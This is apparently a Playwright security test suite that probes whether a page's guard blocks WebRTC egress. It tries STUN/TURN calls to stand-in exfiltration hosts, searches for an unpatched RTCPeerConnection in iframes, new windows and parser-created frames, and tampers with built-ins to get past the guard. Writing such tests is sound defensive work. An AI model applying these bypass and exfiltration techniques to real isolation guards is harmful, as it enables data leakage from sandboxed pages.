/** WebRTC in the page, and in every realm that a page could create, where nothing was removed. */
import type { Page } from '@playwright/test';
import type { Attack } from './page.ts';

export async function tryWebRtc(window: Page): Promise<void> {
  await window.evaluate(async () => {
    const { attempt, pause, udp, tcp } = (globalThis as unknown as { attack: Attack }).attack;
    const peer = async (urls: string, policy: RTCIceTransportPolicy = 'all'): Promise<void> => {
      const connection = new RTCPeerConnection({
        iceServers: [{ urls, username: 'avery.howard@contoso.example', credential: 'x' }],
        iceTransportPolicy: policy,
      });
      connection.createDataChannel('x');
      void connection.createOffer().then((offer) => connection.setLocalDescription(offer));
      await pause(1200);
    };
    await Promise.all([
      attempt('WebRTC STUN over UDP', () => peer(`stun:127.0.0.1:${udp}`)),
      attempt('WebRTC TURN over UDP', () => peer(`turn:127.0.0.1:${udp}`, 'relay')),
      attempt('WebRTC TURN over TCP', () => peer(`turn:127.0.0.1:${tcp}?transport=tcp`, 'relay')),
      attempt('WebRTC TURN over TLS', () => peer(`turns:127.0.0.1:${tcp}?transport=tcp`, 'relay')),
      attempt('WebRTC STUN by name', () => peer('stun:a.exfil-rtc.example:3478')),
      attempt('WebRTC TURN by name', () => peer('turn:a.exfil-turn.example:3478?transport=tcp', 'relay')),
      attempt('WebRTC remote candidate', async () => {
        const [a, b] = [new RTCPeerConnection(), new RTCPeerConnection()];
        a.createDataChannel('x');
        await a.setLocalDescription(await a.createOffer());
        await b.setRemoteDescription(a.localDescription!);
        await b.setLocalDescription(await b.createAnswer());
        await a.setRemoteDescription(b.localDescription!);
        for (const protocol of ['udp', 'tcp']) {
          const port = protocol === 'udp' ? udp : tcp;
          const more = protocol === 'tcp' ? ' tcptype passive' : '';
          const candidate = `candidate:1 1 ${protocol} 2122260223 127.0.0.1 ${port} typ host${more}`;
          await a.addIceCandidate({ candidate, sdpMid: '0', sdpMLineIndex: 0 });
        }
        await a.addIceCandidate({
          candidate: `candidate:2 1 udp 2122260223 a.exfil-mdns.local ${udp} typ host`,
          sdpMid: '0',
          sdpMLineIndex: 0,
        });
        await pause(1200);
      }),
    ]);
  });
}

export async function tryRealms(window: Page): Promise<void> {
  await window.evaluate(async () => {
    const { attack } = globalThis as unknown as { attack: Attack };
    const { attempt, element, pause, udp } = attack;
    const HTML = 'http://www.w3.org/1999/xhtml';
    type Realm = (Window & { RTCPeerConnection?: typeof RTCPeerConnection }) | null | undefined;
    const realmOf = (name: string, make: () => unknown): Promise<void> =>
      attempt(`WebRTC in ${name}`, async () => {
        const made = make();
        if (made instanceof Node) document.body.append(made);
        const realm = (made instanceof Node ? (made as HTMLIFrameElement).contentWindow : made) as Realm;
        const Connection =
          realm?.RTCPeerConnection ?? (Reflect.get(globalThis, '0') as Realm)?.RTCPeerConnection;
        if (Connection === undefined) return;
        attack.realms.push(name);
        const connection = new Connection({ iceServers: [{ urls: `stun:127.0.0.1:${udp}` }] });
        connection.createDataChannel('x');
        await connection.setLocalDescription(await connection.createOffer());
        await connection.addIceCandidate({
          candidate: `candidate:2 1 udp 2122260223 a.exfil-realm.local ${udp} typ host`,
          sdpMid: '0',
          sdpMLineIndex: 0,
        });
        await pause(1200);
      });
    await realmOf('itself, by its other name', () => ({
      RTCPeerConnection: Reflect.get(window, 'webkitRTCPeerConnection') as unknown,
    }));
    await realmOf('a frame', () => element('iframe'));
    await realmOf('an object', () => element('object', { data: 'about:blank' }));
    await realmOf('an embedded page', () => element('embed', { src: 'about:blank' }));
    await realmOf('a frame with text', () => element('iframe', { srcdoc: '<p>x' }));
    await realmOf('a fenced frame', () => element('fencedframe'));
    await realmOf('a frame by namespace', () => document.createElementNS(HTML, 'x:iframe'));
    await realmOf('another document', () =>
      document.adoptNode(new Document().createElementNS(HTML, 'iframe')),
    );
    await realmOf('an imported frame', () =>
      document.importNode(document.implementation.createHTMLDocument().createElement('iframe'), true),
    );
    await realmOf('a custom element', () => {
      class Frame extends HTMLIFrameElement {}
      customElements.define('x-frame', Frame, { extends: 'iframe' });
      return new Frame();
    });
    await realmOf('a constructor', () => Reflect.construct(HTMLElement, [], HTMLIFrameElement));
    await realmOf('a transformation', () => {
      const XSL = 'http://www.w3.org/1999/XSL/Transform';
      const sheet = document.implementation.createDocument(XSL, 'xsl:stylesheet', null);
      const template = sheet.createElementNS(XSL, 'xsl:template');
      template.setAttribute('match', '/');
      const made = sheet.createElementNS(XSL, 'xsl:element');
      made.setAttribute('name', 'iframe');
      template.append(made);
      sheet.documentElement.setAttribute('version', '1.0');
      sheet.documentElement.append(template);
      const processor = new XSLTProcessor();
      processor.importStylesheet(sheet);
      return processor.transformToFragment(sheet, document).querySelector('iframe');
    });
    await realmOf('a window', () => open('about:blank'));
    await realmOf('a window without a name', () => open());
    await realmOf('a window of a document', () => document.open('about:blank', 'x', ''));

    // Markup, in the page and in documents that a policy may not cover.
    const MARKUP = '<iframe id="parsed"></iframe>';
    const inPage = (page: Document): Element => page.querySelector('body') ?? page.documentElement;
    const pages: Record<string, () => Document> = {
      'the page': () => document,
      'an HTML document': () => document.implementation.createHTMLDocument(),
      'an XHTML document': () => document.implementation.createDocument(HTML, 'html', null),
      'a document': () => {
        const page = new Document();
        page.append(page.createElementNS(HTML, 'html'));
        return page;
      },
      'a template': () => {
        const page = document.createElement('template').content.ownerDocument;
        page.append(page.createElementNS(HTML, 'html'));
        return page;
      },
    };
    const unsafe = (target: object, name: string, ...args: unknown[]): unknown =>
      (Reflect.get(target, name) as (...args: unknown[]) => unknown).apply(target, args);
    const parsers: Record<string, (page: Document) => unknown> = {
      innerHTML: (page) => Reflect.set(inPage(page), 'innerHTML', MARKUP),
      outerHTML: (page) =>
        Reflect.set(inPage(page).appendChild(page.createElementNS(HTML, 'p')), 'outerHTML', MARKUP),
      insertAdjacentHTML: (page) => unsafe(inPage(page), 'insertAdjacentHTML', 'beforeend', MARKUP),
      setHTML: (page) => unsafe(inPage(page), 'setHTML', MARKUP),
      setHTMLUnsafe: (page) => unsafe(inPage(page), 'setHTMLUnsafe', MARKUP),
      'a shadow': (page) =>
        Reflect.set(
          inPage(page).appendChild(page.createElementNS(HTML, 'div')).attachShadow({ mode: 'open' }),
          'innerHTML',
          MARKUP,
        ),
      'a range': (page) => inPage(page).append(page.createRange().createContextualFragment(MARKUP)),
      write: (page) => unsafe(page, 'write', MARKUP),
      insertHTML: (page) => {
        Reflect.set(page, 'designMode', 'on');
        page.getSelection()?.selectAllChildren(inPage(page));
        unsafe(page, 'execCommand', 'insertHTML', false, MARKUP);
        Reflect.set(page, 'designMode', 'off');
      },
      parseFromString: (page) =>
        inPage(page).append(
          new DOMParser().parseFromString(`<html xmlns="${HTML}">${MARKUP}</html>`, 'application/xml')
            .documentElement,
        ),
      parseHTMLUnsafe: (page) =>
        inPage(page).append((unsafe(Document, 'parseHTMLUnsafe', MARKUP) as Document).body),
    };
    for (const [where, page] of Object.entries(pages)) {
      for (const [by, parse] of Object.entries(parsers)) {
        await realmOf(`a frame by ${by} in ${where}`, () => {
          const inside = page();
          parse(inside);
          const [frame] = [...inside.querySelectorAll('iframe')];
          return frame === undefined ? null : document.adoptNode(frame);
        });
      }
    }
  });
}

/** Replaces the functions that the page's guard uses, one at a time, before it requests a frame in each way. */
export async function tryReplacedParts(window: Page): Promise<void> {
  await window.evaluate(() => {
    const { attack } = globalThis as unknown as { attack: Attack };
    const HTML = 'http://www.w3.org/1999/xhtml';
    const keep = {
      create: Reflect.get(Document.prototype, 'createElement') as (...args: unknown[]) => unknown,
      createNS: Reflect.get(Document.prototype, 'createElementNS') as (...args: unknown[]) => unknown,
    };
    const { apply, set, defineProperty, getOwnPropertyDescriptor, ownKeys } = Reflect;
    const Frame = HTMLIFrameElement;
    const made: string[] = [];
    /** An object that converts to another string each time that it is read. */
    const changing = (kind: 'toString' | 'valueOf' | symbol, first: number): string => {
      let reads = 0;
      return { toString: undefined, [kind]: () => (reads++ < first ? 'p' : 'iframe') } as unknown as string;
    };
    const KINDS = ['toString', 'valueOf', Symbol.toPrimitive] as const;
    /** Written without calls that may have been replaced: no iteration, no method. */
    const askAll = (): unknown[] => {
      const results: unknown[] = [];
      const ask = (create: () => unknown): void => {
        try {
          results[results.length] = create();
        } catch {
          // Refused.
        }
      };
      ask(() => apply(keep.create, document, ['iframe']));
      ask(() => apply(keep.createNS, document, [HTML, 'iframe']));
      ask(() => apply(keep.createNS, document, [HTML, 'x:iframe']));
      for (let reads = 1; reads <= 3; reads++) {
        for (let index = 0; index < KINDS.length; index++) {
          ask(() => apply(keep.create, document, [changing(KINDS[index]!, reads)]));
          ask(() => apply(keep.createNS, document, [HTML, changing(KINDS[index]!, reads)]));
        }
      }
      return results;
    };
    const holders: [string, object][] = [
      ['window', window],
      ...['String', 'RegExp', 'Reflect', 'Object', 'Function', 'Symbol', 'Array', 'DOMException'].flatMap(
        (name): [string, object][] => {
          const holder = Reflect.get(window, name) as { prototype?: object };
          return [
            [name, holder],
            ...(holder.prototype ? [[`${name}.prototype`, holder.prototype] as [string, object]] : []),
          ];
        },
      ),
    ];
    const BUILT_IN = /^(?:String|RegExp|Reflect|Object|Function|Symbol|Array|DOMException|Document|Proxy)$/;
    const values: ((text: unknown) => unknown)[] = [
      (text) => text,
      () => '',
      () => false,
      () => null,
      () => 'p',
    ];
    for (const [name, holder] of holders) {
      for (const key of ownKeys(holder)) {
        if (name === 'window' && !BUILT_IN.test(String(key))) continue;
        const before = getOwnPropertyDescriptor(holder, key);
        if (before === undefined || !('value' in before)) continue;
        if (before.configurable !== true && before.writable !== true) continue;
        const what = `${name}.${String(key)}`;
        attack.tried.push(`replaced ${what}`);
        for (const value of values) {
          let results: unknown[] = [];
          try {
            if (!set(holder, key, value)) defineProperty(holder, key, { ...before, value });
          } catch {
            continue;
          }
          try {
            results = askAll();
          } finally {
            defineProperty(holder, key, before);
          }
          if (results.some((result) => result instanceof Frame)) made.push(what);
        }
      }
    }
    attack.realms.push(...new Set(made));
  });
}
